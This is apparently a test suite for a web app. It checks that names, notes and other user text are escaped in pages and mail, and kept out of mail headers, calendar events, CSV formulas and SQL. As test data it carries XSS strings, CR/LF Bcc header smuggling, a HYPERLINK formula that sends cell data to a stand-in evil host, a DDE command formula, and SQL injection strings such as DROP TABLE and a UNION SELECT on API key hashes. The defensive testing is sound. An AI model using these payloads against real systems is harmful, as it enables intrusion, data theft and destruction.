/**
 * Injection: text people type (names, notes, scenario text, sources) reaches pages, mail, CSV and
 * queries only as data. Markup is escaped in every page and every HTML mail; CSV cells cannot start
 * a formula; CR/LF never reaches a mail header (or a calendar line); sort and filter parameters never
 * reach SQL.
 */
import { parse } from 'csv-parse/sync';
import { DateTime } from 'luxon';
import type { ParsedMail } from 'mailparser';

import { ManualClock } from '../src/common/clock.js';
import { DigestRunsService } from '../src/digests/digest-runs.service.js';
import { DigestSubscription } from '../src/digests/digest-subscription.entity.js';
import { JobsService } from '../src/jobs/jobs.service.js';
import { changedTables, fingerprint } from './support/db-fingerprint.js';
import { auth, newOrganization, personBody, personWithKey, touchpointBody, created } from './support/factories.js';
import { smallCampaign } from './support/small-campaign.js';
import { startSmtpSink, SmtpSink } from './support/smtp-sink.js';
import { createTestApp, TestApp } from './support/test-app.js';

const XSS = ['<script>alert("gt")</script>', '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>"];
const hostile = (label: string) => `${label} ${XSS.join(' ')}`;
/** The hostile text as a page shows it: `<`, `&` and `"` escaped (JSX leaves `>` as is, where it is only text). */
const SHOWN_ESCAPED = /&lt;script(&gt;|>)alert\(&quot;gt&quot;\)&lt;\/script(&gt;|>)/;
/** The hostile text escaped, right after `before` (a regular expression's source). */
const shownAfter = (before: string) => new RegExp(`${before}${SHOWN_ESCAPED.source}`);

/** The hostile text is shown (escaped) and nothing of it became markup. */
function expectEscaped(html: string, where: string) {
  // attribute values are quoted and escaped, so "onerror=" inside one is text: look at the markup without them
  const tags = html.replace(/"[^"]*"/g, '""');
  const markup = [
    ...XSS.filter((x) => html.includes(x)),
    ...[/<script\b/i, /<svg\b/i, /<[a-z][^>]*\son[a-z]+\s*=/i].filter((re) => re.test(tags)).map(String),
  ];
  expect({ where, markup }).toEqual({ where, markup: [] });
  expect({ where, shown: SHOWN_ESCAPED.test(html) }).toEqual({ where, shown: true });
}

/** Every header line of a received mail is one header: no Bcc or Cc smuggled in, one To that is the recipient. */
function expectHeadersIntact(mail: ParsedMail) {
  const keys = mail.headerLines.map((h) => h.key);
  expect(keys.filter((k) => ['bcc', 'cc', 'reply-to', 'x-injected'].includes(k))).toEqual([]);
  expect(keys.filter((k) => k === 'subject')).toHaveLength(1);
  expect(keys.filter((k) => k === 'to')).toHaveLength(1);
  const to = Array.isArray(mail.to) ? mail.to : [mail.to!];
  expect(to.flatMap((a) => a.value.map((v) => v.address))).toHaveLength(1);
  for (const h of mail.headerLines) expect(h.line).not.toMatch(/\r?\n(?![ \t])/); // folded lines only
}

describe('markup in names, notes and scenario text', () => {
  let sink: SmtpSink;
  let t: TestApp;

  beforeAll(async () => {
    sink = await startSmtpSink();
    t = await createTestApp({
      env: { SMTP_URL: sink.url, PUBLIC_URL: 'http://gt.test' },
      clock: new ManualClock('2027-02-22T09:00:00Z'),
    });
  });

  afterAll(async () => {
    await t?.close();
    await sink?.close();
  });

  it('is escaped in every page and every HTML mail, and never breaks a header or a calendar event', async () => {
    const org = await newOrganization(t);
    const admin = auth(org.adminKey);
    const jobs = t.app.get(JobsService);
    const hours = ['mon', 'tue', 'wed', 'thu', 'fri'].map((day) => ({ day, start: '00:00', end: '24:00' }));
    // Unicode line separators are not header breaks, and "Bcc:" in a name is only text.
    const testers = [
      await personWithKey(t, org.adminKey, ['tester'], {
        name: hostile('Ann\u2028Bcc: evil@example.org'),
        workingHours: hours,
      }),
      await personWithKey(t, org.adminKey, ['tester'], { name: hostile('Bo\u0085'), workingHours: hours }),
    ];
    const quality = await personWithKey(t, org.adminKey, ['quality'], { name: hostile('Quinn') });
    const tp = (
      await t
        .http()
        .post('/api/v1/touchpoints')
        .set(admin)
        .send(
          touchpointBody({
            name: hostile('Shop\u2028X-Injected: 1'),
            channel: 'in_person',
            contact: hostile('1 High St'),
            team: hostile('t'),
            openingHours: ['mon', 'tue', 'wed', 'thu', 'fri'].map((day) => ({ day, open: '09:00', close: '17:00' })),
          }),
        )
        .expect(201)
    ).body;
    const scenario = (
      await t
        .http()
        .post('/api/v1/scenarios')
        .set(admin)
        .send({
          title: hostile('Ask'),
          brief: `${hostile('Brief')}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected`,
          channels: ['in_person'],
          questions: [
            { key: 'said', label: hostile('What did they say?'), type: 'text' },
            { key: 'mood', label: 'Mood', type: 'choice', options: ['calm', hostile('o').slice(0, 100)] },
          ],
        })
        .expect(201)
    ).body;
    const campaign = (
      await t
        .http()
        .post('/api/v1/campaigns')
        .set(admin)
        .send({
          name: hostile('Campaign'),
          touchpointIds: [tp.id],
          testerIds: testers.map((x) => x.person.id),
          scenarioIds: [scenario.id],
          contactsPerTouchpointPerWeek: 2,
          testerWeeklyCap: 1,
          minSpacingHours: 4,
          holdLeadMinutes: 1440,
          graceMinutes: 60,
          startsOn: '2027-03-01',
        })
        .expect(201)
    ).body;
    await t
      .http()
      .post(`/api/v1/campaigns/${campaign.id}/plan`)
      .set(admin)
      .send({ from: '2027-03-01', to: '2027-03-07' })
      .expect(200);
    await created(t, quality.key, '/api/v1/claims', {
      touchpointId: tp.id,
      metric: 'first_contact_resolution',
      periodStart: '2027-03-01',
      periodEnd: '2027-03-07',
      value: 0.9,
      source: hostile('Review'),
      reportedAt: '2027-03-08T07:00:00Z',
    });
    await created(t, quality.key, '/api/v1/claims', {
      team: tp.team,
      metric: 'answer_rate',
      periodStart: '2027-03-01',
      periodEnd: '2027-03-07',
      value: 0.9,
      source: 'Review',
      reportedAt: '2027-03-08T07:00:00Z',
    });
    await created(t, quality.key, '/api/v1/digest-subscriptions', {
      name: hostile('Digest'),
      recipients: ['quality@example.org'],
      cron: '0 8 * * 1',
      timezone: 'UTC',
      periodDays: 7,
      minContacts: 1,
    });

    const [first, second] = await t.dataSource.query(
      `SELECT a.id, a.hold_at, a.reveal_at, a.window_start, a.window_end, p.email, p.timezone FROM assignment a JOIN person p ON p.id = a.tester_id ORDER BY a.window_start`,
    );
    const at = async (when: Date) => {
      t.clock.set(when);
      await jobs.run('reveal');
      await jobs.run('remindExpire');
      await jobs.run('outbox');
    };
    const minutes = (d: Date, m: number) => new Date(d.getTime() + m * 60_000);
    const attempted = DateTime.fromJSDate(minutes(first.window_start, 10), { zone: first.timezone }).toFormat(
      "yyyy-MM-dd'T'HH:mm",
    );
    const promised = DateTime.fromJSDate(second.window_start, { zone: first.timezone }).toISODate()!;
    const filled = {
      attemptedAt: attempted,
      reachedHuman: 'no',
      transfers: '0',
      disconnects: '0',
      resolution: 'unresolved',
      optionsExplained: 'no',
      promisedFollowUpBy: promised,
      notes: hostile('Notes'),
      'answers.said': hostile('Said'),
      'answers.mood': 'calm',
      action: 'save',
    };

    // The first tester records on the form (after the reminder); the second misses the test.
    const recordFirst = async () => {
      const reveal = sink.messages.find(
        (m) => m.subject?.startsWith('Your test contact') && m.to && JSON.stringify(m.to).includes(first.email),
      )!;
      const link = /http:\/\/gt\.test(\/t\/[A-Za-z0-9_-]{43})/.exec(reveal.text ?? '')![1];
      // the form: scenario text, question labels and choices; then re-rendered with the values as typed
      expectEscaped((await t.http().get(link).expect(200)).text, 'the outcome form');
      const rerendered = await t
        .http()
        .post(link)
        .type('form')
        .send({ ...filled, transfers: 'many' })
        .expect(400);
      expectEscaped(rerendered.text, 'the outcome form re-rendered with an error');
      expect(rerendered.text).toMatch(shownAfter('Notes '));
      await t.http().post(link).type('form').send(filled).expect(303);
      expectEscaped((await t.http().get(`${link}?saved=1`).expect(200)).text, 'the saved page');
      expectEscaped((await t.http().get(link).expect(200)).text, 'the outcome form, editing');
    };
    const timeline: Array<[Date, () => Promise<void>]> = [
      [first.hold_at, () => Promise.resolve()],
      [second.hold_at, () => Promise.resolve()],
      [first.reveal_at, () => Promise.resolve()],
      [second.reveal_at, () => Promise.resolve()],
      [minutes(first.window_end, -29), recordFirst],
      [minutes(second.window_end, -29), () => Promise.resolve()],
      [minutes(second.window_end, 61), () => Promise.resolve()],
    ];
    for (const [when, then] of timeline.sort((a, b) => a[0].getTime() - b[0].getTime())) {
      await at(when);
      await then();
    }

    // The promise is asked about the next morning; the digest goes out on Monday.
    t.clock.set(DateTime.fromISO(`${promised}T09:30`, { zone: first.timezone }).plus({ days: 1 }).toJSDate());
    await jobs.run('followUp');
    await jobs.run('outbox');
    const followUp = sink.messages.find((m) => m.subject?.startsWith('Did '))!;
    const question = /http:\/\/gt\.test(\/f\/[A-Za-z0-9_-]{43})/.exec(followUp.text ?? '')![1];
    expectEscaped((await t.http().get(question).expect(200)).text, 'the follow-up question');
    expectEscaped((await t.http().get(`${question}?answer=kept`).expect(200)).text, 'the follow-up confirmation');
    t.clock.set('2027-03-08T08:05:00Z');
    await jobs.run('digest');
    await jobs.run('outbox');
    const digest = sink.messages.find((m) => m.subject?.startsWith('Digest') && m.subject.includes('– 8 Mar 2027'))!;
    const web = /http:\/\/gt\.test(\/d\/[A-Za-z0-9_-]{43})/.exec(digest.text ?? '')![1];
    const page = (await t.http().get(web).expect(200)).text;
    expectEscaped(page, 'the digest page');
    expect(page).toMatch(shownAfter('Notes ')); // the worst contact's notes
    expect(page).toMatch(shownAfter('Shop\u2028X-Injected: 1 ')); // the touchpoint

    // Every mail: hold, reveal, reminder, follow-up, digest.
    const kinds = new Set<string>();
    for (const mail of sink.messages) {
      const kind =
        /^(Please hold|Your test contact|Reminder|Did |Digest)/.exec(mail.subject ?? '')?.[1] ?? mail.subject!;
      kinds.add(kind);
      expectEscaped(String(mail.html), `the mail "${mail.subject}"`);
      expectHeadersIntact(mail);
      for (const ics of mail.attachments.filter((a) => a.contentType.startsWith('text/calendar'))) {
        expect(ics.content.toString('utf8').match(/^BEGIN:VEVENT/gm)).toHaveLength(1);
      }
    }
    expect([...kinds].sort()).toEqual(['Did ', 'Digest', 'Please hold', 'Reminder', 'Your test contact']);
  });
});

describe('CR and LF in names and addresses', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp();
  });

  afterAll(async () => {
    await t?.close();
  });

  const named = (res: { status: number; body: { errors?: Array<{ field: string; row?: number }> } }, field: string) => {
    expect(res.status).toBe(400);
    expect(res.body.errors?.map((e) => e.field)).toContain(field);
  };

  it('are refused in every field that reaches a mail header, through the API and CSV imports, naming the field', async () => {
    const org = await newOrganization(t);
    const admin = auth(org.adminKey);
    const before = await fingerprint(t.dataSource);
    const person = (await t.http().post('/api/v1/people').set(admin).send(personBody()).expect(201)).body;
    const tp = (await t.http().post('/api/v1/touchpoints').set(admin).send(touchpointBody()).expect(201)).body;
    const sub = (
      await t
        .http()
        .post('/api/v1/digest-subscriptions')
        .set(admin)
        .send({ name: 'Weekly', recipients: ['q@example.org'], cron: '0 8 * * 1', timezone: 'UTC' })
        .expect(201)
    ).body;
    const rows = await fingerprint(t.dataSource);
    void before;
    for (const breakLine of ['\r\n', '\n', '\r']) {
      const smuggled = `x${breakLine}Bcc: evil@example.org`;
      named(
        await t
          .http()
          .post('/api/v1/people')
          .set(admin)
          .send(personBody({ name: `Eve ${smuggled}` })),
        'name',
      );
      named(
        await t
          .http()
          .post('/api/v1/people')
          .set(admin)
          .send(personBody({ email: `eve@example.org${breakLine}Bcc: evil@example.org` })),
        'email',
      );
      named(await t.http().patch(`/api/v1/people/${person.id}`).set(admin).send({ name: smuggled }), 'name');
      named(
        await t
          .http()
          .post('/api/v1/touchpoints')
          .set(admin)
          .send(touchpointBody({ name: smuggled })),
        'name',
      );
      named(await t.http().patch(`/api/v1/touchpoints/${tp.id}`).set(admin).send({ name: smuggled }), 'name');
      named(
        await t
          .http()
          .post('/api/v1/digest-subscriptions')
          .set(admin)
          .send({ name: smuggled, recipients: ['q@example.org'], cron: '0 8 * * 1', timezone: 'UTC' }),
        'name',
      );
      named(
        await t
          .http()
          .patch(`/api/v1/digest-subscriptions/${sub.id}`)
          .set(admin)
          .send({ recipients: [`q@example.org${breakLine}Bcc: evil@example.org`] }),
        'recipients',
      );
      named(await t.http().patch(`/api/v1/organizations/${org.orgId}`).set(admin).send({ name: smuggled }), 'name');
      named(
        await t
          .http()
          .post('/api/v1/scenarios')
          .set(admin)
          .send({ title: smuggled, brief: 'b', channels: ['phone'] }),
        'title',
      );
      // CSV: a quoted cell may hold a line break; the row is refused, naming row and field
      const people = await t
        .http()
        .post('/api/v1/people/import')
        .set(admin)
        .set('Content-Type', 'text/csv')
        .send(
          `email,name,roles,timezone\nok@example.org,"${smuggled}",tester,UTC\n"eve@example.org${breakLine}Bcc: evil@example.org",Eve,tester,UTC\n`,
        );
      expect(people.status).toBe(400);
      expect(people.body.errors).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ row: 1, field: 'name' }),
          expect.objectContaining({ row: 2, field: 'email' }),
        ]),
      );
      const touchpoints = await t
        .http()
        .post('/api/v1/touchpoints/import')
        .set(admin)
        .set('Content-Type', 'text/csv')
        .send(
          `name,channel,contact,timezone,openingHours\n"${smuggled}",phone,+44 20 7946 0000,UTC,mon-fri 09:00-17:00\n`,
        );
      expect(touchpoints.body.errors).toEqual([expect.objectContaining({ row: 1, field: 'name' })]);
    }
    expect(changedTables(rows, await fingerprint(t.dataSource))).toEqual([]);
  });
});

describe('formula injection in CSV exports', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp();
  });

  afterAll(async () => {
    await t?.close();
  });

  it('neutralises every register cell that would start a formula (= + - @ tab CR), keeping its text', async () => {
    const org = await newOrganization(t);
    const admin = auth(org.adminKey);
    const tester = await personWithKey(t, org.adminKey, ['tester']);
    const dangerous = [
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      '+SUM(1,2)',
      '-2+3',
      '@SUM(A1:A2)',
      "=cmd|' /C calc'!A0",
    ];
    const ids: string[] = [];
    for (const [i, start] of dangerous.entries()) {
      ids.push(
        (
          await t
            .http()
            .post('/api/v1/touchpoints')
            .set(admin)
            .send(touchpointBody({ name: `${start} ${i}`, team: start, channel: 'in_person', contact: start }))
            .expect(201)
        ).body.id,
      );
    }
    // a leading tab or CR is trimmed from every free-text field; what follows it is neutralised all the same
    ids.push(
      (
        await t
          .http()
          .post('/api/v1/touchpoints')
          .set(admin)
          .send(touchpointBody({ name: 'Tabbed', channel: 'in_person', contact: '\t=1+1 Street', team: '\r@team' }))
          .expect(201)
      ).body.id,
    );
    const imported = await t
      .http()
      .post('/api/v1/touchpoints/import')
      .set(admin)
      .set('Content-Type', 'text/csv')
      .send(
        'name,channel,contact,timezone,openingHours,team\n"=1+1 imported",in_person,"-1 Street",UTC,mon-fri 09:00-17:00,"+team"\n',
      );
    expect(imported.status).toBe(201);
    ids.push(...imported.body.ids);
    for (const [i, id] of ids.entries()) {
      await created(t, tester.key, '/api/v1/outcomes', {
        touchpointId: id,
        attemptedAt: `2026-11-01T1${i}:00:00Z`,
        reachedHuman: false,
        resolution: 'resolved',
      });
    }
    const csv = await t.http().get('/api/v1/outcomes/register.csv').set(admin).expect(200);
    const rows: Array<Record<string, string>> = parse(csv.text, { columns: true });
    expect(rows).toHaveLength(ids.length);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const byName = new Map(rows.map((r) => [r.touchpoint, r]));
    for (const [i, start] of dangerous.entries()) {
      expect(byName.get(`'${start} ${i}`)).toMatchObject({ team: `'${start}`, contact: `'${start}` });
    }
    expect(byName.get('Tabbed')).toMatchObject({ contact: "'=1+1 Street", team: "'@team" });
    expect(byName.get("'=1+1 imported")).toMatchObject({ contact: "'-1 Street", team: "'+team" });
  });
});

describe('sort and filter parameters', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp({ clock: new ManualClock('2027-03-03T12:00:00Z') });
  });

  afterAll(async () => {
    await t?.close();
  });

  it('never reach SQL in any list route: 400 naming the parameter, or taken literally; nothing changes', async () => {
    const { org, testers } = await smallCampaign(t);
    const admin = auth(org.adminKey);
    const [tp] = (await t.http().get('/api/v1/touchpoints').set(admin).expect(200)).body.items;
    await created(t, testers[0].key, '/api/v1/outcomes', {
      touchpointId: tp.id,
      attemptedAt: '2027-03-01T10:00:00Z',
      reachedHuman: false,
      resolution: 'resolved',
    });
    await t
      .http()
      .post('/api/v1/claims')
      .set(admin)
      .send({
        touchpointId: tp.id,
        metric: 'answer_rate',
        periodStart: '2027-02-22',
        periodEnd: '2027-02-28',
        value: 0.9,
        source: 'Review',
        reportedAt: '2027-03-01T09:00:00Z',
      })
      .expect(201);
    await t
      .http()
      .post('/api/v1/digest-subscriptions')
      .set(admin)
      .send({ name: 'Weekly', recipients: ['q@example.org'], cron: '0 8 * * 1', timezone: 'UTC' })
      .expect(201);
    // Wildcards are text: "50%" and "a_b" find only themselves.
    await t
      .http()
      .post('/api/v1/people')
      .set(admin)
      .send(personBody({ name: 'Pat 50% done' }))
      .expect(201);
    await t
      .http()
      .post('/api/v1/people')
      .set(admin)
      .send(personBody({ name: 'Pat a_b' }))
      .expect(201);
    const doc = (await t.http().get('/api/docs-json').expect(200)).body as {
      paths: Record<string, Record<string, { parameters?: Array<{ name: string; in: string }> }>>;
    };
    const [sub] = (await t.http().get('/api/v1/digest-subscriptions').set(admin).expect(200)).body.items;
    // a digest run, for the list of its links
    const subscription = await t.dataSource.getRepository(DigestSubscription).findOneByOrFail({ id: sub.id });
    await t.app.get(DigestRunsService).sendOne(subscription, t.clock.now());
    const [run] = await t.dataSource.query('SELECT id FROM digest_run WHERE subscription_id = $1', [sub.id]);
    const lists = Object.entries(doc.paths)
      .filter(([, ops]) => ops.get?.parameters?.some((p) => p.in === 'query'))
      .map(([path, ops]) => ({
        path: path.replace('{id}', sub.id).replace('{runId}', run.id),
        params: ops.get.parameters!.filter((p) => p.in === 'query').map((p) => p.name),
      }));
    expect(lists.map((l) => l.path).length).toBeGreaterThanOrEqual(12);

    const before = await fingerprint(t.dataSource);
    const plain = new Map<string, string>();
    for (const { path } of lists) plain.set(path, (await t.http().get(path).set(admin)).text);
    const SQL = [
      "' OR '1'='1",
      "x' OR 1=1 --",
      '1; DROP TABLE person; --',
      "') UNION ALL SELECT id, hash FROM api_key --",
    ];
    const problems: string[] = [];
    for (const { path, params } of lists) {
      // parameters no route has: sorting and raw filters are not offered
      for (const extra of ['sort', 'order', 'orderBy', 'filter', 'where', 'sort[name]']) {
        const res = await t
          .http()
          .get(path)
          .query(`${encodeURIComponent(extra)}=${encodeURIComponent('name; DROP TABLE person; --')}`)
          .set(admin);
        if (
          res.status !== 400 ||
          !res.body.errors?.some((e: { field: string; rule: string }) => e.field === extra && e.rule === 'unknownField')
        )
          problems.push(`${path}?${extra}: ${res.status} ${res.text.slice(0, 200)}`);
      }
      for (const param of params) {
        for (const sql of SQL) {
          const res = await t
            .http()
            .get(path)
            .query({ [param]: sql })
            .set(admin);
          const named = res.status === 400 && res.body.errors?.some((e: { field: string }) => e.field === param);
          // taken literally: matching nothing (no stored text holds these)
          const nothing =
            res.status === 200 &&
            (res.body.total === 0 ||
              (Array.isArray(res.body.items) && res.body.items.every((m: { n?: number }) => m.n === 0)));
          if (!named && !nothing) problems.push(`${path}?${param}=${sql}: ${res.status} ${res.text.slice(0, 200)}`);
        }
      }
    }
    expect(problems).toEqual([]);
    const people = async (q: string) =>
      (await t.http().get('/api/v1/people').query({ q }).set(admin).expect(200)).body.items.map(
        (p: { name: string }) => p.name,
      );
    expect(await people('50%')).toEqual(['Pat 50% done']);
    expect(await people('a_b')).toEqual(['Pat a_b']);
    expect(await people('%')).toEqual(['Pat 50% done']);
    // nothing changed, and every list reads as before
    expect(changedTables(before, await fingerprint(t.dataSource))).toEqual([]);
    for (const { path } of lists) expect((await t.http().get(path).set(admin)).text).toBe(plain.get(path));
  });
});
